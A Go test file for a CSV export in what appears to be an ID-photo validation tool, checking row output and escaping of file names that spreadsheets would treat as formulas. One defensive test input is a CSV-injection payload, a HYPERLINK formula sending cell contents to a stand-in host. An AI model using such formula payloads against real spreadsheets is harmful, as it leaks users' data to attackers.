package batch

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"testing"
	"time"

	"github.com/tessera-cie/tessera/validate"
)

func TestCSV(t *testing.T) {
	taken := time.Date(2026, 10, 1, 10, 0, 0, 0, time.UTC)
	rep := &validate.Report{
		File: "a.jpg", Checks: []validate.Check{
			{ID: "dpi", Status: validate.Fail, Value: 72.0},
			{ID: "eye_height", Status: validate.Pass, Value: 60.5},
			{ID: "face_height", Status: validate.Fail, Value: 64.0},
			{ID: "recency", Status: validate.Warn},
			{ID: "yaw", Status: validate.Warn},
		},
		Image: &validate.ImageInfo{Format: "jpeg", Width: 551, Height: 709, Bytes: 123456, DPI: 72, DPISource: "none", Taken: &taken},
	}
	noFace := &validate.Report{File: "b.png", Checks: []validate.Check{
		{ID: "face_count", Status: validate.Fail, Value: 0},
		{ID: "eye_height", Status: validate.Skip},
	}, Image: &validate.ImageInfo{Format: "png", Width: 600, Height: 800, Bytes: 1000, DPI: 400, DPISource: "png"}}
	heic := &validate.Report{File: "c.heic", Error: "Formato HEIC non accettato", Checks: []validate.Check{{ID: "format", Status: validate.Fail}},
		Image: &validate.ImageInfo{Format: "heic", Bytes: 2048}}
	items := []Item{
		{Input: Input{Path: "a.jpg"}, Report: rep},
		{Input: Input{Path: "b.png"}, Report: noFace},
		{Input: Input{Path: "c.heic"}, Report: heic},
		{Input: Input{Path: "notes, 2026.txt", Skip: SkipNotImage}},
	}
	var buf bytes.Buffer
	w := NewCSVWriter(&buf, "it")
	for _, it := range items {
		if err := w.Write(it); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, buf.String())
	}
	want := [][]string{
		CSVHeader(),
		{"a.jpg", "fail", "dpi face_height", "recency yaw", "72", "123456", "551", "709", "60.5", "64", ""},
		{"b.png", "fail", "face_count", "", "400", "1000", "600", "800", "", "", ""},
		{"c.heic", "error", "format", "", "", "2048", "", "", "", "", "Formato HEIC non accettato"},
		{"notes, 2026.txt", "skipped", "", "", "", "", "", "", "", "", "non è un'immagine"},
	}
	if !reflect.DeepEqual(rows, want) {
		t.Errorf("rows:\n got %q\nwant %q", rows, want)
	}

	var empty bytes.Buffer
	if err := NewCSVWriter(&empty, "en").Close(); err != nil || empty.String() != "file,verdict,failed,warned,dpi,bytes,width,height,eye_height,face_height,error\n" {
		t.Errorf("no rows: %q, %v", empty.String(), err)
	}
}

// TestCSVFormulaNames checks that file names a spreadsheet would run as a
// formula are written as text (OWASP, CSV injection), and others as they
// are.
func TestCSVFormulaNames(t *testing.T) {
	tests := []struct{ name, cell string }{
		{`=HYPERLINK("http://x.example/?"&A1,"photo").jpg`, `'=HYPERLINK("http://x.example/?"&A1,"photo").jpg`},
		{"+39 foto.jpg", "'+39 foto.jpg"},
		{"-2+3.jpg", "'-2+3.jpg"},
		{"@SUM(A1:A9).jpg", "'@SUM(A1:A9).jpg"},
		{"\t=1+1.jpg", "'\t=1+1.jpg"},
		{"\r=1+1.jpg", "'\r=1+1.jpg"},
		{"foto=mario.jpg", "foto=mario.jpg"},
		{"mario-rossi.jpg", "mario-rossi.jpg"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var buf bytes.Buffer
			w := NewCSVWriter(&buf, "en")
			if err := w.Write(Item{Input: Input{Path: tc.name, Skip: SkipNotImage}}); err != nil {
				t.Fatal(err)
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if got := rows[1][0]; got != tc.cell {
				t.Errorf("file cell %q, want %q", got, tc.cell)
			}
		})
	}
}
